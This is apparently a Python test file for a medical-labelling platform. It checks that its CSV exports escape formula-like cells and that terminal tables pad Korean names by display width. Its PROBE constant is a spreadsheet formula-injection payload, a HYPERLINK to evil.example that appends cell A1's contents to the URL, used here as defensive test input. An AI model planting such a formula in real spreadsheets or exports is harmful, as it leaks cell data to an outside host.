"""CSV files the platform writes are safe to open in a spreadsheet; terminal tables line up on Korean names."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
from rich.cells import cell_len

from medlabel.routing.generator import generate_pool, to_csv
from medlabel.samples import _write_csv
from medlabel.synthetic import synthetic_ecg
from medlabel.tables import cell, neutralise
from plugins.ingest.ecg import ecg_csv
from plugins.ingest.ecg_read import EcgSignal

PROBE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_cells_get_a_quote_and_numbers_stay_numbers() -> None:
    for probe in (PROBE, "+cmd", "-2+3", "@SUM(A1)", "\tx"):
        assert neutralise(probe) == "'" + probe
    for value in ("-0.1250", "+3", "1e-3", "Kim", "", 7, -1.5):
        assert neutralise(value) == value


def test_every_csv_writer_neutralises_a_formula_cell(tmp_path: Path) -> None:
    rows = generate_pool(2, seed=1)
    rows[0]["name"] = PROBE
    pool = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert pool[0]["name"] == "'" + PROBE and pool[1]["name"] == rows[1]["name"]

    _write_csv(tmp_path / "s.csv", ["time", PROBE], [np.array([0.0, 0.5]), np.array([-1.25, 2.0])])
    sample = list(csv.reader((tmp_path / "s.csv").open()))
    assert sample[0] == ["time", "'" + PROBE] and sample[1] == ["0.000000", "-1.2500"]

    strip = synthetic_ecg(seed=1)
    strip.leads[PROBE] = strip.leads.pop("II")
    header, first = list(csv.reader(strip.write_csv(tmp_path / "e.csv").open()))[:2]
    assert "'" + PROBE in header and all(v.lstrip("-").replace(".", "").isdigit() for v in first)

    signal = EcgSignal(
        leads=(PROBE, "V1"), millivolts=np.array([[-0.5, 0.25], [0.1, -0.2]]), sampling_rate_hz=500.0
    )
    header, first = list(csv.reader(io.StringIO(ecg_csv(signal).decode())))[:2]
    assert header == ["time", "'" + PROBE, "V1"] and first[1] == "-0.5000"


def test_cells_pad_by_display_width() -> None:
    names = ["김민준", "Kim Minjun", "이서연 (Seoyeon)", "박"]
    lines = [cell(name, 12) + "|" for name in names]
    assert {cell_len(line.split("|")[0]) for line in lines} == {12}  # str.ljust gives 9, 12, 16, 11 columns
    assert cell_len(cell("김민준 김민준 김민준", 7)) == 7
